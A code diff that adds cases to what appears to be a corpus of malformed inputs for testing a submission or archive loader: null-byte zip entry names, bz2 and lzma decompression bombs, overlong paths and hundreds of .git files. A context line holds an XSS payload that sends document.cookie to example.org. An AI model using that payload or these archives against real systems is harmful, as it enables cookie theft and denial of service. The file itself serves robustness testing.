@@ -249,6 +249,13 @@ def only(*names: str) -> Callable[[Path], None]:
     return spoil
 
 
+def nameless(folder: Path) -> None:
+    """An entry whose name is the character that ends names."""
+    zipped(lambda archive: archive.writestr("~", "{}"))(folder)
+    path = folder.with_name(folder.name + ".zip")
+    path.write_bytes(path.read_bytes().replace(b"~", b"\0"))
+
+
 SCRIPT = "<script>fetch('http://example.org/'+document.cookie)</script><img src=x onerror=alert(1)>"
 CORPUS: dict[str, Callable[[Path], None]] = {
     # checkpoints
@@ -302,6 +309,13 @@ CORPUS: dict[str, Callable[[Path], None]] = {
     "zip-duplicate": with_entry(f"{TARGET}.json", b"{}"), "zip-case": with_entry(f"{TARGET.upper()}.JSON".replace(
         ".JSON", ".json")), "zip-bomb": zipped(bomb), "zip-many": zipped(many), "zip-cut": zip_bytes(
         lambda data: data[: len(data) // 2]), "zip-noise": zip_bytes(lambda data: os.urandom(1000)),
-    "zip-empty": zip_bytes(lambda data: b""), "zip-null-name": with_entry("a\x01b.json"),
+    "zip-empty": zip_bytes(lambda data: b""), "zip-no-name": nameless,
+    "zip-bz2": zipped(lambda archive: archive.writestr("a.json", bytes(10**7), zipfile.ZIP_BZIP2)),
+    "zip-lzma": zipped(lambda archive: archive.writestr("a.json", bytes(10**6), zipfile.ZIP_LZMA)),
+    "long-path": added("/".join(["a" * 120, "b" * 120, "x" * 100 + ".json"]), b"{}"),
+    "grades.csv": added("x.json", b"{}"), "class.html": added("x.json", b"{}"),
+    "other-task": run_field(task="1.2.3"),
+    "git-history": lambda folder: [added(f".git/{i}")(folder) for i in range(600)],
+    "zip-null-name": with_entry("a\x01b.json"),
     "zip-flipped": zip_bytes(lambda data: data[:3000] + bytes(1000) + data[4000:]),
 }
